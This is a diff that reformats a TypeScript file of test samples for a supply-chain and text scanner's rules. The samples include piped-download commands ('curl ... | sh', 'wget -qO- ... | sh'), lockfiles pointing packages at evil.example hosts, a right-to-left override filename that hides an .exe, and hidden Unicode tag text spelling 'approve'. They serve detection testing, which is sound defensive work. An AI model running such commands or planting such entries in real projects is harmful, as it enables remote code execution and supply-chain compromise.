@@ -5,7 +5,9 @@ import type { RuleSamples } from './rule-samples-script.ts'
 const [npm, yarn] = publicHosts.npm
 const [pypi] = publicHosts.python
 
-const tags = [...'approve'].map((letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!)).join('')
+const tags = [...'approve']
+  .map((letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!))
+  .join('')
 const family = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'
 const england = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'
 
@@ -33,7 +35,10 @@ export const textSamples: readonly RuleSamples[] = [
     rule: 'bidirectional-text',
     file: 'locales/ar.json',
     fires: ['{ "name": "invoice\u202efdp.exe" } ◀'],
-    silent: ['{ "hello": "\u202b\u0645\u0631\u062d\u0628\u0627 {name}" }', '{ "a": "\u2067x\u2069", "b": "\u200fx" }'],
+    silent: [
+      '{ "hello": "\u202b\u0645\u0631\u062d\u0628\u0627 {name}" }',
+      '{ "a": "\u2067x\u2069", "b": "\u200fx" }',
+    ],
   },
   {
     rule: 'invisible-character',
@@ -109,7 +114,10 @@ export const textSamples: readonly RuleSamples[] = [
   {
     rule: 'piped-download',
     file: 'tests/conftest.py',
-    fires: ['SETUP = "curl https://acme.example/x | sh" ◀', 'os.system("wget -qO- x.example | sh") ◀'],
+    fires: [
+      'SETUP = "curl https://acme.example/x | sh" ◀',
+      'os.system("wget -qO- x.example | sh") ◀',
+    ],
     silent: ['requests.get("https://acme.example/x")'],
   },
   {
@@ -176,18 +184,24 @@ export const textSamples: readonly RuleSamples[] = [
     rule: 'unknown-package-host',
     file: 'pnpm-lock.yaml',
     fires: ['packages:\n  a@1.0.0:\n    resolution: {tarball: https://evil.example/a.tgz} ◀'],
-    silent: ['packages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n    deprecated: see https://a.example'],
+    silent: [
+      'packages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n    deprecated: see https://a.example',
+    ],
   },
   {
     rule: 'unknown-package-host',
     file: 'Cargo.lock',
     fires: ['[[package]]\nname = "a"\nsource = "git+https://github.com/evil/a#1" ◀'],
-    silent: ['[[package]]\nname = "a"\nsource = "registry+https://github.com/rust-lang/crates.io-index"'],
+    silent: [
+      '[[package]]\nname = "a"\nsource = "registry+https://github.com/rust-lang/crates.io-index"',
+    ],
   },
   {
     rule: 'unknown-package-host',
     file: 'composer.lock',
-    fires: ['{ "packages": [ { "dist": { "type": "zip",\n  "url": "https:\\/\\/evil.example\\/a.zip" } } ] } ◀'],
+    fires: [
+      '{ "packages": [ { "dist": { "type": "zip",\n  "url": "https:\\/\\/evil.example\\/a.zip" } } ] } ◀',
+    ],
     silent: [
       '{ "packages": [ { "dist": { "url": "https://api.github.com/repos/a" }, "support": { "issues": "https://a.example" } } ] }',
     ],
@@ -213,7 +227,9 @@ export const textSamples: readonly RuleSamples[] = [
   {
     rule: 'unknown-package-host',
     file: 'package.json',
-    fires: ['{ "homepage": "https://a.example",\n  "dependencies": { "a": "https://evil.example/a.tgz" } } ◀'],
+    fires: [
+      '{ "homepage": "https://a.example",\n  "dependencies": { "a": "https://evil.example/a.tgz" } } ◀',
+    ],
     silent: ['{ "homepage": "https://a.example", "dependencies": { "a": "^1.0.0" } }'],
   },
   {
@@ -247,7 +263,9 @@ export const textSamples: readonly RuleSamples[] = [
   {
     rule: 'install-script',
     file: 'npm-shrinkwrap.json',
-    fires: ['{ "packages": {\n  "node_modules/a/node_modules/@evil/b": { "hasInstallScript": true } ◀\n} }'],
+    fires: [
+      '{ "packages": {\n  "node_modules/a/node_modules/@evil/b": { "hasInstallScript": true } ◀\n} }',
+    ],
     silent: ['{ "packages": { "node_modules/a": { "hasInstallScript": false } } }'],
   },
   {
